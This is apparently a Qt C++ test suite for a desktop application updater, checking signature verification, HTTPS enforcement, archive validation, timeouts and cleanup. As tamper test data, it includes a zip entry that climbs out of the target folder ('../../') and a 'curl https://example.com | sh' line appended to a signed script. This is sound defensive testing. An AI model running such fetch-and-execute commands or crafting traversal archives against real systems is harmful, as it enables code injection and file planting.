#include "applications/ProductionApplicationUpdater.h"

#include "StoreDoubles.h"
#include "TaskOutcome.h"
#include "UpdateFixture.h"
#include "applications/ApplicationUpdaterError.h"
#include "applications/ProductionApplicationDiscovery.h"
#include "foundation/WorkFolder.h"

#include <QTest>

using namespace Qt::StringLiterals;
using Error = ApplicationUpdaterError;

// Prepares one update on the fixture and returns the release to install.
using Scenario = std::function<AvailableApplicationRelease(UpdateFixture&)>;
Q_DECLARE_METATYPE(Scenario)

namespace {

TaskOutcome<bool> install(UpdateFixture& fixture, const AvailableApplicationRelease& release) {
    const auto updater = fixture.makeUpdater();
    return outcomeOf(
        updater->installUpdate(release, fixture.installed,
                               UpdateFixture::configuration().director.bundleIdentifiers, {}),
        60000);
}

Scenario publishing(std::function<void(UpdateFixture&, ZipWriter&)> contents,
                    std::optional<QString> version = std::nullopt,
                    std::optional<QString> build = u"2500"_s) {
    return [=](UpdateFixture& fixture) {
        fixture.publish([&](ZipWriter& zip) { contents(fixture, zip); });
        return fixture.release(version.value_or(u"2.5.0"_s), build);
    };
}

Scenario publishingBundle(std::function<QString(UpdateFixture&)> build,
                          std::optional<QString> releaseBuild = u"2500"_s) {
    return publishing(
        [build](UpdateFixture& fixture, ZipWriter& zip) {
            zip.addTree(build(fixture), "Vantor Director.app");
        },
        std::nullopt, releaseBuild);
}

QString signedRelease(UpdateFixture& fixture) {
    return fixture.buildRelease(UpdateFixture::releaseSpec());
}

using Signer = TestCertificateAuthority::Issued SigningFixture::*;

// Publishes a bundle of this spec, signed by signer (none: unsigned) with this identifier.
Scenario publishingRelease(BundleSpec spec, Signer signer = &SigningFixture::developerA,
                           QString identifier = UpdateFixture::directorID) {
    return publishingBundle([=](UpdateFixture& fixture) {
        return fixture.buildRelease(u"release"_s, u"Vantor Director.app"_s, spec,
                                    signer ? &(fixture.signing.*signer) : nullptr, identifier);
    });
}

} // namespace

// The verified updater against a real HTTPS server, real archives, real signatures and a real
// Applications folder.
class ProductionApplicationUpdaterTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void installsAVerifiedRelease_data() {
        QTest::addColumn<Scenario>("scenario");
        QTest::newRow("bundle at the top") << publishingBundle(signedRelease);
        QTest::newRow("scheme in capitals") << Scenario([](UpdateFixture& fixture) {
            fixture.publishBundle(signedRelease(fixture));
            AvailableApplicationRelease release = fixture.release();
            QUrl url = *release.downloadURL;
            url.setScheme(u"HTTPS"_s);
            release.downloadURL = url;
            return release;
        });
        QTest::newRow("release without a build") << publishingBundle(
            [](UpdateFixture& fixture) {
                return fixture.buildRelease(UpdateFixture::releaseSpec(u"2.5.0"_s, u"99"_s));
            },
            std::nullopt);
        QTest::newRow("foreign bundle first, inside a folder")
            << publishing([](UpdateFixture& fixture, ZipWriter& zip) {
                   zip.addTree(fixture.buildRelease(u"foreign"_s, u"Other.app"_s,
                                                    {u"com.example.Other"_s, u"2.5.0"_s, u"2500"_s},
                                                    &fixture.signing.developerB,
                                                    u"com.example.Other"_s),
                               "Director 2.5.0/Other.app");
                   zip.addTree(signedRelease(fixture), "Director 2.5.0/Vantor Director.app");
               });
    }

    void installsAVerifiedRelease() {
        QFETCH(Scenario, scenario);
        UpdateFixture fixture;
        const TaskOutcome<bool> outcome = install(fixture, scenario(fixture));

        QVERIFY2(!outcome.error,
                 qPrintable(outcome.error ? outcome.error->description() : QString()));
        QCOMPARE(fixture.installedVersion(), u"2.5.0"_s);
        QCOMPARE(fixture.signature()->signingIdentity(fixture.installed.toLocalFile()),
                 (SigningIdentity{UpdateFixture::directorID, SigningFixture::teamA}));
        QCOMPARE(fixture.leftovers(), QStringList());
        QCOMPARE(fixture.server.requestCount(UpdateFixture::downloadPath), 1);
    }

    void refusesAndLeavesTheInstalledCopy_data() {
        QTest::addColumn<Scenario>("scenario");
        QTest::addColumn<QString>("expected");
        QTest::addColumn<int>("requests");
        const auto text = [](Error error) { return errorDescription(error); };

        QTest::newRow("no download") << Scenario([](UpdateFixture&) {
            return AvailableApplicationRelease{u"2.5.0"_s, u"2500"_s, std::nullopt};
        }) << text(Error::missingDownload)
                                     << 0;
        QTest::newRow("plain http") << Scenario([](UpdateFixture& fixture) {
            AvailableApplicationRelease release = fixture.release();
            QUrl url = *release.downloadURL;
            url.setScheme(u"http"_s);
            release.downloadURL = url;
            return release;
        }) << text(Error::insecureDownload)
                                    << 0;
        QTest::newRow("no scheme") << Scenario([](UpdateFixture&) {
            return AvailableApplicationRelease{u"2.5.0"_s, {}, QUrl(u"director.zip"_s)};
        }) << text(Error::insecureDownload)
                                   << 0;
        QTest::newRow("empty archive")
            << publishing([](UpdateFixture&, ZipWriter&) {}) << text(Error::invalidArchive) << 1;
        QTest::newRow("only a foreign bundle")
            << publishing([](UpdateFixture& fixture, ZipWriter& zip) {
                   zip.addTree(fixture.buildRelease(u"foreign"_s, u"Vantor Director.app"_s,
                                                    {u"com.example.Other"_s, u"2.5.0"_s, u"2500"_s},
                                                    &fixture.signing.developerA),
                               "Vantor Director.app");
               })
            << text(Error::invalidArchive) << 1;
        QTest::newRow("inside another application")
            << publishing([](UpdateFixture& fixture, ZipWriter& zip) {
                   zip.addTree(signedRelease(fixture), "Wrapper.app/Contents/Vantor Director.app");
               })
            << text(Error::invalidArchive) << 1;
        QTest::newRow("entry above the folder")
            << publishing([](UpdateFixture& fixture, ZipWriter& zip) {
                   zip.addTree(signedRelease(fixture), "Vantor Director.app");
                   zip.addFile("../../home/Applications/planted", "x");
               })
            << text(Error::invalidArchive) << 1;

        QTest::newRow("shorter version") << publishingRelease(UpdateFixture::releaseSpec(u"2.5"_s))
                                         << text(Error::unexpectedVersion) << 1;
        QTest::newRow("other build")
            << publishingRelease(UpdateFixture::releaseSpec(u"2.5.0"_s, u"2499"_s))
            << text(Error::unexpectedVersion) << 1;
        QTest::newRow("no build in the bundle")
            << publishingRelease(BundleSpec{UpdateFixture::directorID, u"2.5.0"_s, std::nullopt})
            << text(Error::unexpectedVersion) << 1;

        QTest::newRow("unsigned") << publishingRelease(UpdateFixture::releaseSpec(), nullptr)
                                  << text(Error::invalidSignature) << 1;
        QTest::newRow("changed after signing") << publishingBundle([](UpdateFixture& fixture) {
            const QString bundle = signedRelease(fixture);
            QFile script(bundle + u"/Contents/MacOS/launcher-test-app"_s);
            script.open(QIODevice::Append);
            script.write("curl https://example.com | sh\n");
            return bundle;
        }) << text(Error::invalidSignature) << 1;
        QTest::newRow("installed copy unsigned") << Scenario([](UpdateFixture& fixture) {
            QFile::remove(fixture.installed.toLocalFile() +
                          u"/Contents/_CodeSignature/CodeSignature.p7s"_s);
            fixture.publishBundle(signedRelease(fixture));
            return fixture.release();
        }) << text(Error::invalidSignature) << 1;
        QTest::newRow("signer for websites only")
            << publishingRelease(UpdateFixture::releaseSpec(), &SigningFixture::notForCode)
            << text(Error::invalidSignature) << 1;
        QTest::newRow("signer without any usage")
            << publishingRelease(UpdateFixture::releaseSpec(), &SigningFixture::noUsage)
            << text(Error::invalidSignature) << 1;
        QTest::newRow("other team")
            << publishingRelease(UpdateFixture::releaseSpec(), &SigningFixture::developerB)
            << text(Error::signingIdentityMismatch) << 1;
        // Hostile servers end as time-outs, never as a download that does not end.
        const auto answering = [](HttpsTestServer::Response response) {
            return Scenario([response](UpdateFixture& fixture) {
                fixture.server.reply(u"GET"_s, UpdateFixture::downloadPath, response);
                return fixture.release();
            });
        };
        const QString timedOut = LaunchError::url(LaunchError::timedOut).description();
        QTest::newRow("silent server")
            << answering({200, "never", "application/zip", {}, 4000}) << timedOut << 1;
        HttpsTestServer::Response trickle(200, QByteArray(64, 'z'), "application/zip");
        trickle.trickleMilliseconds = 1000;
        QTest::newRow("trickling body") << answering(trickle) << timedOut << 1;
        QTest::newRow("foreign signing identifier")
            << publishingRelease(UpdateFixture::releaseSpec(), &SigningFixture::developerA,
                                 u"com.example.Other"_s)
            << text(Error::signingIdentityMismatch) << 1;
    }

    void refusesAndLeavesTheInstalledCopy() {
        QFETCH(Scenario, scenario);
        QFETCH(QString, expected);
        QFETCH(int, requests);
        UpdateFixture fixture;
        const TaskOutcome<bool> outcome = install(fixture, scenario(fixture));

        QVERIFY(outcome.error);
        QCOMPARE(outcome.error->description(), expected);
        QCOMPARE(fixture.server.requestCount(UpdateFixture::downloadPath), requests);
        QCOMPARE(fixture.installedVersion(), u"2.4.1"_s);
        QCOMPARE(fixture.leftovers(), QStringList());
        QVERIFY(!QFileInfo::exists(fixture.applications + u"/planted"_s));
    }

    // What a crash in the middle of an earlier update left beside the installed copy: never a
    // second Director for discovery, and gone after the next update.
    void clearsWhatAnInterruptedUpdateLeft() {
        UpdateFixture fixture;
        const QString leftover = fixture.applications + u'/' +
                                 QLatin1String(BundleReplacement::workFolderPrefix) +
                                 u"0B7C2F7E-3C1D-4E55-8A8A-6F1E2D3C4B5A"_s;
        writeBundle(leftover, u"Vantor Director Backup-1.app"_s,
                    {UpdateFixture::directorID, u"2.3.0"_s, u"2300"_s});
        // A killed update's download (its lock is gone with the process), and one that a running
        // launcher still holds.
        const QString killed =
            fixture.applications + u"/.vantor-launch-update-6F1E2D3C-4B5A-4E55-8A8A-0B7C2F7E3C1D"_s;
        QVERIFY(QDir().mkpath(killed + u"/unpacked"_s));
        QVERIFY(QFile(killed + u".lock"_s).open(QIODevice::WriteOnly));
        const WorkFolder held = WorkFolder::create(fixture.applications, u"update"_s);
        ProductionApplicationDiscovery discovery(
            UpdateFixture::configuration(), std::make_shared<LinuxWorkspace>(),
            {fixture.root.filePath(u"system"_s), fixture.root.filePath(u"home"_s)});
        QCOMPARE(outcomeOf(discovery.candidates(UpdateFixture::configuration().director)).value,
                 QList<QUrl>{fixture.installed});

        fixture.publishBundle(signedRelease(fixture));
        const TaskOutcome<bool> outcome = install(fixture, fixture.release());
        QVERIFY(!outcome.error);
        QVERIFY(!QFileInfo::exists(leftover));
        QVERIFY(!QFileInfo::exists(killed) && !QFileInfo::exists(killed + u".lock"_s));
        QCOMPARE(fixture.leftovers(),
                 QStringList({QFileInfo(held.path()).fileName(),
                              QFileInfo(held.path()).fileName() + u".lock"_s}));

        // What earlier launchers left in the temporary folder goes; look-alikes stay.
        const QDir temporary(fixture.root.filePath(u"tmp"_s));
        const QString uuid = u"0B7C2F7E-3C1D-4E55-8A8A-6F1E2D3C4B5A"_s;
        QVERIFY(QDir().mkpath(temporary.filePath(u"vantor-launch-update-"_s + uuid + u"/x"_s)));
        QVERIFY(QDir().mkpath(temporary.filePath(u"vantor-launch-pack-"_s + uuid)));
        for (const QString& name : QStringList{u"vantor-launch-download-"_s + uuid + u".zip"_s,
                                               u"vantor-launch-download-notes.zip"_s, u"other"_s})
            writeFile(temporary.filePath(name), "x");
        QCOMPARE(WorkFolder::removeEarlierTemporaryItems(temporary.path()), 3);
        QCOMPARE(temporary.entryList(QDir::AllEntries | QDir::NoDotAndDotDot),
                 QStringList({u"other"_s, u"vantor-launch-download-notes.zip"_s}));
    }

    void refusesWhileACopyRuns() {
        UpdateFixture fixture;
        fixture.publishBundle(signedRelease(fixture));
        QVERIFY(fixture.startInstalledCopy() > 0);

        const TaskOutcome<bool> outcome = install(fixture, fixture.release());
        QVERIFY(outcome.error);
        QVERIFY(isUpdaterError(*outcome.error, Error::applicationRunning));
        QCOMPARE(fixture.server.requestCount(UpdateFixture::downloadPath), 0);
        QCOMPARE(fixture.installedVersion(), u"2.4.1"_s);
    }

    // A copy started while the update downloads stops it just before the replacement.
    void stopsWhenACopyStartsDuringTheDownload() {
        UpdateFixture fixture;
        fixture.publishBundle(signedRelease(fixture));
        HttpsTestServer::Response archive(200, {}, "application/zip");
        archive.filePath = fixture.root.filePath(u"published.zip"_s);
        fixture.server.on(u"GET"_s, UpdateFixture::downloadPath,
                          [&](const HttpsTestServer::Request&) {
                              fixture.startInstalledCopy();
                              return archive;
                          });

        const TaskOutcome<bool> outcome = install(fixture, fixture.release());
        QVERIFY(outcome.error);
        QVERIFY(isUpdaterError(*outcome.error, Error::applicationRunning));
        QCOMPARE(fixture.server.requestCount(UpdateFixture::downloadPath), 1);
        QCOMPARE(fixture.installedVersion(), u"2.4.1"_s);
        QCOMPARE(fixture.leftovers(), QStringList());
    }
};

QTEST_GUILESS_MAIN(ProductionApplicationUpdaterTest)
#include "ProductionApplicationUpdaterTest.moc"
